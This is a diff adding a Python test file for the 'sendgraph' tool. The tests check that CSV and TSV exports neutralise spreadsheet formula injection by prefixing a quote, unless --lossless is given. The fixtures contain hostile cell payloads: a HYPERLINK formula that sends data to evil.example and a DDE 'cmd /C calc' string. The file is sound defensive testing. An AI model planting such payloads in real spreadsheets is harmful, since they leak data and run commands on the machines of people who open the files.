@@ -1,0 +1,247 @@
+"""Spreadsheet exports: the data tables back from the graph cell for cell, and CSV Excel cannot run."""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from sendgraph.build import Build, build_graph, default_data_folder
+from sendgraph.cli import main
+from sendgraph.exports import TABLES, export_tables, table_files
+from sendgraph.tables import neutralise, render_csv, render_rows
+from tests.test_records import edit
+
+# A cell that, opened in Excel, sends the cell beside it to another site when clicked.
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full plan")'
+AT = "@SUM(1+1)*cmd|' /C calc'!A0"
+PLUS = "+44 114 296 5000"
+# A legitimate cell that starts with a dash: safe mode puts a quote before it too.
+DASH = "-2 weeks behind the plan"
+NOTICE = (
+    "5 cells start with = + - @ tab or CR and were written behind a ' so that Excel shows "
+    "them as text; --lossless writes them exactly.\n"
+)
+
+
+def formula_data(folder: Path) -> Path:
+    """Copy the bundled data into ``folder`` and put formula-like text in five cells."""
+    target = folder / "data"
+    shutil.copytree(default_data_folder(), target)
+    edit(target, "actions", "ref", "PR 1", action=FORMULA)
+    edit(target, "actions", "ref", "PR 2", note=AT)
+    edit(target, "actions", "ref", "JCP 3.3", status=DASH)
+    edit(target, "peer_challenge", "ref", "PC 1.1", identified_action=FORMULA)
+    edit(target, "ccg_gaps", "ref", "CCG 2", note=PLUS)
+    return target
+
+
+@pytest.fixture(scope="module")
+def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return formula_data(tmp_path_factory.mktemp("formulas"))
+
+
+def run(*args: str) -> Result:
+    return CliRunner().invoke(main, list(args))
+
+
+def parsed(payload: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(payload.decode("utf-8-sig"), newline="")))
+
+
+# ---------------------------------------------------------------- the data back from the graph
+
+
+def test_the_rotherham_tables_come_back_byte_for_byte(rotherham: Build) -> None:
+    tables = export_tables(rotherham.graph)
+    assert [(t.folder, t.name, len(t.rows)) for t in tables] == [
+        ("data", "actions", 83),
+        ("data", "priorities", 10),
+        ("data", "ccg_gaps", 4),
+        ("data", "peer_challenge", 24),
+    ]
+    assert sum(t.formula_like_cells() for t in tables) == 0
+    expected = {
+        f"{name}.csv": (default_data_folder() / f"{name}.csv").read_bytes() for name in TABLES
+    }
+    assert table_files(tables, safe=False) == expected
+    assert table_files(tables, safe=True) == expected
+
+
+def test_export_csv_writes_the_tables_into_a_folder(tmp_path: Path) -> None:
+    out = tmp_path / "tables"
+    result = run("export", "-f", "csv", "-o", str(out))
+    assert result.exit_code == 0, result.output
+    assert result.stdout == f"Wrote 4 tables (121 rows) to {out}\n"
+    assert result.stderr == ""
+    assert sorted(p.name for p in out.iterdir()) == [
+        "actions.csv",
+        "ccg_gaps.csv",
+        "peer_challenge.csv",
+        "priorities.csv",
+    ]
+    assert (out / "actions.csv").read_bytes() == (
+        default_data_folder() / "actions.csv"
+    ).read_bytes()
+
+
+def test_export_csv_of_a_graph_file_recovers_its_data(tmp_path: Path) -> None:
+    graph_file = tmp_path / "published.nt"
+    assert run("build", "-o", str(graph_file), "-f", "nt", "--no-validate").exit_code == 0
+    out = tmp_path / "recovered"
+    result = run("export", "-f", "csv", "--data", str(graph_file), "-o", str(out), "--lossless")
+    assert result.exit_code == 0, result.output
+    for name in TABLES:
+        assert (out / f"{name}.csv").read_bytes() == (
+            default_data_folder() / f"{name}.csv"
+        ).read_bytes()
+
+
+def test_export_csv_refuses_a_file_as_its_folder(tmp_path: Path) -> None:
+    target = tmp_path / "tables.csv"
+    target.write_text("mine\n", encoding="utf-8")
+    result = run("export", "-f", "csv", "-o", str(target))
+    assert result.exit_code == 2
+    assert result.stderr == f"Error: {target} is a file; -f csv writes a folder of tables.\n"
+    assert target.read_text(encoding="utf-8") == "mine\n"
+
+
+def test_export_csv_of_data_with_errors_writes_nothing(tmp_path: Path, data_copy: Path) -> None:
+    edit(data_copy, "actions", "ref", "PR 1", plan="no-such-plan")
+    out = tmp_path / "tables"
+    result = run("export", "-f", "csv", "--data", str(data_copy), "-o", str(out))
+    assert result.exit_code == 1
+    assert result.stderr == "Error: the data has 1 errors; run `sendgraph validate` to see them.\n"
+    assert not out.exists()
+
+
+# ---------------------------------------------------------------- safe and lossless
+
+
+def test_export_csv_is_safe_by_default_and_lossless_on_request(
+    tmp_path: Path, formulas: Path
+) -> None:
+    safe, lossless = tmp_path / "safe", tmp_path / "lossless"
+    result = run("export", "-f", "csv", "--data", str(formulas), "-o", str(safe))
+    assert result.exit_code == 0, result.output
+    assert result.stderr == NOTICE
+    result = run("export", "-f", "csv", "--data", str(formulas), "-o", str(lossless), "--lossless")
+    assert result.exit_code == 0, result.output
+    assert result.stderr == ""
+    for name in TABLES:
+        # Lossless gives the data files back exactly, formulas and all.
+        assert (lossless / f"{name}.csv").read_bytes() == (formulas / f"{name}.csv").read_bytes()
+    changed = {
+        (name, r, c, cell)
+        for name in TABLES
+        for r, (safe_row, raw_row) in enumerate(
+            zip(
+                parsed((safe / f"{name}.csv").read_bytes()),
+                parsed((lossless / f"{name}.csv").read_bytes()),
+                strict=True,
+            )
+        )
+        for c, (cell, raw) in enumerate(zip(safe_row, raw_row, strict=True))
+        if cell != raw and cell == neutralise(raw)
+    }
+    assert changed == {
+        ("actions", 11, 4, "'" + FORMULA),
+        ("actions", 12, 9, "'" + AT),
+        ("actions", 57, 8, "'" + DASH),
+        ("peer_challenge", 8, 5, "'" + FORMULA),
+        ("ccg_gaps", 2, 4, "'" + PLUS),
+    }
+    assert (
+        b',"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for the full plan"")",'
+        in (safe / "actions.csv").read_bytes()
+    )
+
+
+def test_query_csv_and_tsv_neutralise_formulas_unless_lossless(formulas: Path) -> None:
+    text = (
+        'SELECT ?ref ?text WHERE { ?a skos:notation ?ref ; sg:text ?text . FILTER(?ref = "PR 1") }'
+    )
+    status = (
+        "SELECT ?ref ?status WHERE { ?a skos:notation ?ref ; sg:progressEntry/sg:statusText ?status ."
+        ' FILTER(?ref = "JCP 3.3") }'
+    )
+    expected = {
+        (text, "csv", "--safe"): 'ref,text\nPR 1,"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for the full plan"")"\n',
+        (text, "csv", "--lossless"): 'ref,text\nPR 1,"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for the full plan"")"\n',
+        (text, "tsv", "--safe"): '?ref\t?text\n"PR 1"\t"\'=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"Click for the full plan\\")"\n',
+        (text, "tsv", "--lossless"): '?ref\t?text\n"PR 1"\t"=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"Click for the full plan\\")"\n',
+        (status, "csv", "--safe"): "ref,status\nJCP 3.3,'-2 weeks behind the plan\n",
+        (status, "csv", "--lossless"): "ref,status\nJCP 3.3,-2 weeks behind the plan\n",
+        (status, "tsv", "--safe"): '?ref\t?status\n"JCP 3.3"\t"\'-2 weeks behind the plan"\n',
+        (status, "tsv", "--lossless"): '?ref\t?status\n"JCP 3.3"\t"-2 weeks behind the plan"\n',
+    }  # fmt: skip
+    for (query, fmt, mode), output in expected.items():
+        result = run("query", query, "--data", str(formulas), "-f", fmt, mode)
+        assert result.exit_code == 0, result.output
+        assert result.stdout == output, (query, fmt, mode)
+    default = run("query", status, "--data", str(formulas), "-f", "csv")
+    assert default.stdout == expected[(status, "csv", "--safe")]
+
+
+def test_gaps_csv_neutralises_the_quotes_it_shows(formulas: Path) -> None:
+    def quotes(*mode: str) -> set[tuple[str, str, str]]:
+        result = run(
+            "gaps", "--data", str(formulas), "--only", "no-owner", "--only", "status-outside-scheme",
+            "-f", "csv", *mode,
+        )  # fmt: skip
+        assert result.exit_code == 0, result.output
+        rows = csv.DictReader(io.StringIO(result.stdout, newline=""))
+        return {(r["rule"], r["ref"], r["quote"]) for r in rows if r["quote"][:2] in ("'=", "'-", "=H", "-2")}  # fmt: skip
+
+    assert quotes() == {
+        ("no-owner", "PC 1.1 identified action", "'" + FORMULA),
+        ("status-outside-scheme", "JCP 3.3", "'" + DASH),
+    }
+    assert quotes("--lossless") == {
+        ("no-owner", "PC 1.1 identified action", FORMULA),
+        ("status-outside-scheme", "JCP 3.3", DASH),
+    }
+
+
+def test_question_commands_csv_neutralises_formulas(formulas: Path) -> None:
+    result = run("owner", "Sue Wilson", "--data", str(formulas), "-f", "csv")
+    assert result.exit_code == 0, result.output
+    assert "JCP 3.3,owner,,'-2 weeks behind the plan\n" in result.stdout
+    lossless = run("owner", "Sue Wilson", "--data", str(formulas), "-f", "csv", "--lossless")
+    assert "JCP 3.3,owner,,-2 weeks behind the plan\n" in lossless.stdout
+
+
+def test_render_rows_neutralises_each_formula_start_and_nothing_else() -> None:
+    cells = ["=1+2", "+1", "-1", "@x", "\tx", "\rx", "a=b", "", " =1", "’=x", "'=x"]
+    rows = [{"n": str(i), "cell": cell} for i, cell in enumerate(cells)]
+    assert render_rows(rows, "csv", safe=True) == (
+        "n,cell\n0,'=1+2\n1,'+1\n2,'-1\n3,'@x\n4,'\tx\n5,\"'\rx\"\n6,a=b\n7,\n8, =1\n9,’=x\n10,'=x\n"
+    )
+    assert render_rows(rows, "csv") == (
+        'n,cell\n0,=1+2\n1,+1\n2,-1\n3,@x\n4,\tx\n5,"\rx"\n6,a=b\n7,\n8, =1\n9,’=x\n10,\'=x\n'
+    )
+    # JSON and text tables are not for spreadsheets: safe leaves them alone.
+    assert render_rows(rows, "json", safe=True) == render_rows(rows, "json")
+    assert render_rows(rows, "table", safe=True) == render_rows(rows, "table")
+
+
+def test_render_csv_writes_excel_line_ends_and_neutralises_only_data() -> None:
+    assert (
+        render_csv(["=head", "b"], [["=1", "x\ny"]], safe=True, line_end="\r\n")
+        == '=head,b\r\n\'=1,"x\ny"\r\n'
+    )
+
+
+def test_the_exported_tables_build_back_to_the_same_cells(tmp_path: Path, rotherham: Build) -> None:
+    folder = tmp_path / "data"
+    shutil.copytree(default_data_folder(), folder)
+    for name, payload in table_files(export_tables(rotherham.graph), safe=False).items():
+        (folder / name).write_bytes(payload)
+    rebuilt = build_graph(folder, validate=False)
+    assert [t.rows for t in export_tables(rebuilt.graph)] == [
+        t.rows for t in export_tables(rotherham.graph)
+    ]
